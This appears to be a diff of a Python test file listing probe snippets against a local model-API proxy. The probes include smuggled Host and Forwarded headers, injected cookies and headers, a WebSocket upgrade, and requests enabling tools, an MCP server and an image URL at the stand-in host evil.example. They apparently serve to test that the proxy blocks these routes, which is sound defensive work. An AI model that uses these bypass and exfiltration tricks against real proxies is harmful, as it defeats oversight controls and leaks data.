@@ -66,7 +66,7 @@ attempt("post", lambda: post("http://127.0.0.1:@tcp@/v1/messages"))
 attempt("connect", lambda: raw(b"CONNECT 127.0.0.1:@tcp@ HTTP/1.1\\r\\nHost: 127.0.0.1:@tcp@\\r\\n\\r\\ntaken"))
 """,
     "host-header": 'attempt("host header", lambda: post(host="127.0.0.1:@tcp@"))',
-    "forwarded-host": 'attempt("forwarded", lambda: post(X_Forwarded_Host="evil.example", Forwarded="host=evil.example"))',
+    "forwarded-host": 'attempt("forwarded", lambda: post(X_Forwarded_Host="evil.example", Forwarded="host=evil"))',
     "user-in-address": 'attempt("user", lambda: post("//evil@127.0.0.1:@tcp@/v1/messages"))',
     "other-paths": """
 for path in ("/v1/files", "/v1/models", "/v1/organizations/me", "/v1/messages/batches", "/v1/skills", "/api/oauth/x"):
@@ -106,7 +106,7 @@ attempt("bare", lambda: raw(b"POST /v1/messages HTTP/1.1\\nHost: x\\nx-evil: 1\\
 attempt("cookie", lambda: post(cookie="evil=1", proxy_authorization="Basic evil", connection="evil", evil="1"))
 """,
     "websocket": """
-attempt("upgrade", lambda: post(method="GET", upgrade="websocket", sec_websocket_key="eA==", sec_websocket_version="13"))
+attempt("upgrade", lambda: post(method="GET", upgrade="websocket", sec_websocket_version="13"))
 """,
     "web-search-tool": """
 attempt("search", lambda: post(body={**BODY, "tools": [{"type": "web_search_20250305", "name": "web_search"}]}))
@@ -121,7 +121,7 @@ attempt("code", lambda: post(body={**BODY, "tools": [{"type": "code_execution_20
 server = {"type": "url", "url": "http://evil.example", "name": "x"}
 attempt("mcp", lambda: post(body={**BODY, "mcp_servers": [server]}))
 """,
-    "container": 'attempt("container", lambda: post(body={**BODY, "container": {"skills": [{"skill_id": "evil.example"}]}}))',
+    "container": 'attempt("container", lambda: post(body={**BODY, "container": {"skills": ["evil.example"]}}))',
     "picture-from-address": """
 attempt("image", lambda: told({"type": "image", "source": {"type": "url", "url": "http://evil.example/?taken"}}))
 """,
